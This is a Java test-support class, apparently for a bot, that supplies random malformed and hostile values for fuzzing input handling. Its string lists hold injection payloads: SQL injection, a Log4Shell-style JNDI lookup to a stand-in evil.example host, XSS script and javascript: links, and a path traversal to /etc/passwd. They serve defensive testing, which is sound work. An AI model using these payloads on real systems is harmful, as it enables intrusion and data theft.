package dev.cairn.bot.faults;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Supplies values that break careless code. */
record HostileValues(Random random) {
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    static final List<String> TEXTS = List.of(
            "",
            " ",
            "\0",
            "\n\r\t",
            "x".repeat(4_100),
            "é".repeat(101),
            "**bold** _it_ ~~no~~ ||spoiler|| `code` ```block```",
            "[link](javascript:alert(1)) <https://evil.example>",
            "# heading\n> quote\n- list",
            "@everyone @here <@1> <@&1> <#1> </done:1>",
            "'; DROP TABLE learner; --",
            "\" OR 1=1 /*",
            "%s %n %d {} ${jndi:ldap://evil.example/a} #{7*7}",
            "\u202Eright to left\u202C \u200Fمرحبا \u05E9\u05DC\u05D5\u05DD",
            "\uD83D",
            "\uDC00 half a pair \uD800",
            "\uD83D\uDC69\u200D\uD83D\uDCBB\u0301\u0301\u0301\u0301",
            "\uFEFF\uFFFE\uFFFF\u0007\u001B[31m",
            "../../etc/passwd",
            "<script>alert(1)</script>",
            "-1",
            "0",
            "9223372036854775808",
            "-9223372036854775808",
            "NaN",
            "1e999",
            "null",
            "true",
            ":",
            "::::",
            "*",
            "Linear Algebra");

    private static final List<String> LINKS = List.of(
            "https://example.org/%00%zz%",
            "https://user:secret@example.org/",
            "https://[::1]:80/",
            "http://0x7f.1/",
            "https://ex%61mple.org/",
            "https://\u0430pple.com/",
            "https://example.org:99999/",
            "https://example.org/" + "x".repeat(600),
            "https://youtu.be/",
            "https://www.youtube.com/watch?v=" + "\uD83D",
            "https://arxiv.org/abs/../../..",
            "https://doi.org/10.",
            "https://www.google.com/url?q=https://www.google.com/url?q=javascript:alert(1)",
            "javascript:alert(1)",
            "data:text/html,x",
            "https://example.org/a)b>c\"d|e",
            "https://xn--a.com/",
            "https://\u3002/",
            "https://example.org/?a&&b==&utm_source=x#/route");

    String link() {
        return LINKS.get(random.nextInt(LINKS.size()));
    }

    String text() {
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    <T> T anyOf(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }

    JsonNode value() {
        return switch (random.nextInt(12)) {
            case 0 -> JSON.nullNode();
            case 1 -> JSON.booleanNode(random.nextBoolean());
            case 2 -> JSON.numberNode(random.nextInt(20) - 5);
            case 3 -> JSON.numberNode(random.nextLong());
            case 4 -> JSON.numberNode(random.nextGaussian() * 1e300);
            case 5 -> JSON.arrayNode();
            case 6 -> JSON.objectNode();
            case 7 -> JSON.arrayNode().add(text()).add(random.nextInt()).addNull();
            case 8 -> JSON.objectNode().put("id", text()).put("name", text());
            case 9 -> nested(60);
            default -> JSON.textNode(text());
        };
    }

    /** Removes or replaces a field anywhere in the tree. */
    void tamper(ObjectNode tree) {
        ObjectNode at = tree;
        for (List<String> names = names(at); !names.isEmpty(); names = names(at)) {
            String name = anyOf(names);
            JsonNode child = at.path(name);
            JsonNode inner = child.isArray() && !child.isEmpty() ? child.get(random.nextInt(child.size())) : child;
            if (inner instanceof ObjectNode deeper && random.nextInt(3) > 0) {
                at = deeper;
            } else if (random.nextInt(3) == 0) {
                at.remove(name);
                return;
            } else {
                at.set(name, value());
                return;
            }
        }
    }

    private static List<String> names(ObjectNode node) {
        List<String> names = new ArrayList<>();
        node.fieldNames().forEachRemaining(names::add);
        return names;
    }

    private static JsonNode nested(int depth) {
        JsonNode node = JSON.textNode("deep");
        for (int level = 0; level < depth; level++) {
            node = JSON.arrayNode().add(node);
        }
        return node;
    }
}
